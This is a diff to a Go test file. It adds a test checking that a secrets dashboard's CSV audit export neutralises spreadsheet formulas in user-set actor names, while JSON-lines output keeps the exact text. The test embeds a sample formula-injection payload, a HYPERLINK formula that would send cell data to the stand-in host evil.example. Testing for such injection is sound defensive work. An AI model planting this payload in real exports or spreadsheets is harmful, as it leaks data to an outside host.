@@ -2,6 +2,7 @@ package dashboard
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"net/http"
 	"net/url"
@@ -100,6 +101,35 @@ func TestAuditDownloadUsesTheExportFormatAndIsAudited(t *testing.T) {
 		t.Fatalf("JSON lines download:\n%s", r.body)
 	}
 	want(t, b.post("/audit/export", url.Values{"format": {"xml"}}), http.StatusBadRequest, "use jsonl or csv")
+}
+
+// An actor is whatever the user configured: in a download it must not be a
+// formula that runs in the spreadsheet it is opened with.
+func TestAuditCSVDownloadNeutralisesFormulas(t *testing.T) {
+	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	e := newEnv(t)
+	if _, err := e.st.WithActor(hyperlink).PutSecret(t.Context(), store.PutSecretInput{Project: "app", Name: "K", Value: []byte("v"), ExpectedRevision: store.AnyRevision}); err != nil {
+		t.Fatal(err)
+	}
+	b := e.signedIn("v@example.com", store.RoleViewer)
+	r := b.post("/audit/export", url.Values{"format": {"csv"}})
+	want(t, r, http.StatusOK, `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`)
+	records, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	if err != nil {
+		t.Fatalf("CSV download: %v\n%s", err, r.body)
+	}
+	for _, rec := range records {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell a spreadsheet would run: %q", cell)
+			}
+		}
+	}
+	// JSON lines are not read by spreadsheets: they keep the exact text.
+	r = b.post("/audit/export", url.Values{"format": {"jsonl"}, "action": {"secret.create"}})
+	if !strings.Contains(r.body, `"actor":"=HYPERLINK(\"http://evil.example/?x=\"\u0026A1,\"click\")"`) {
+		t.Fatalf("JSON lines download:\n%s", r.body)
+	}
 }
 
 func TestAuditVerifyShowsTheChainStatusToAdmins(t *testing.T) {
